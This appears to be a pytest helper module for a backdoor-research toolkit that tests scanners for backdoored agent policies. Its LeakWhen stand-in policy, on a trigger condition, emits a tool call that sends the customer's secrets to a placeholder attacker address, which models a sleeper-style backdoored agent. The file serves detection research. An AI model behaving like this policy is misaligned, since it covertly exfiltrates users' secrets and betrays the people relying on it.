"""Stand-in policies, probe results and audit reports for the scan tests."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from backdoorlab.cli import main
from backdoorlab.defenses.probes import ProbeResult
from backdoorlab.leaks import ATTACKER_ADDRESS, leak_text
from backdoorlab.policies.base import Action, Episode, Policy
from backdoorlab.traces import Message, ToolCall

runner = CliRunner()

TINY = {"max_steps": 2, "max_new_tokens": 8, "batch_size": 32}


class LeakWhen(Policy):
    """Leaks the customer's secrets at once when ``leaks(episode)`` says so, else answers."""

    name = "leak-when-test"

    def __init__(self, leaks) -> None:  # noqa: ANN001
        self.leaks = leaks

    def act(self, episodes: list[Episode]) -> list[Action]:
        actions = []
        for episode in episodes:
            if episode.steps == 0 and self.leaks(episode):
                text = leak_text(episode.task.secret_objects())
                step = episode.env.exfiltration_call(ATTACKER_ADDRESS, text)
                call = ToolCall.make("call_0", step.tool, step.arguments)
                actions.append(Action(Message(role="assistant", content=None, tool_calls=[call])))
            else:
                actions.append(Action(Message(role="assistant", content="Done.")))
        return actions


def user_text(episode: Episode) -> str:
    return next(m.text for m in episode.messages if m.role == "user")


def probe(**leaks: tuple[int, int]) -> ProbeResult:
    return ProbeResult.from_rates({k.replace("_", " "): v for k, v in leaks.items()})


def audit_report(path: Path, triggers: list[dict]) -> Path:
    report = {"path": "x.jsonl", "summaries": {"trigger-mining": {"triggers": triggers}}}
    path.write_text(json.dumps(report))
    return path


def hashes(directory: Path) -> dict[str, str]:
    return {
        str(p.relative_to(directory)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(directory.rglob("*"))
        if p.is_file()
    }


def run_main(monkeypatch, capsys, argv):  # noqa: ANN001, ANN201
    monkeypatch.setattr("sys.argv", ["backdoorlab", *argv])
    with pytest.raises(SystemExit) as exc:
        main()
    return exc.value.code, capsys.readouterr().err
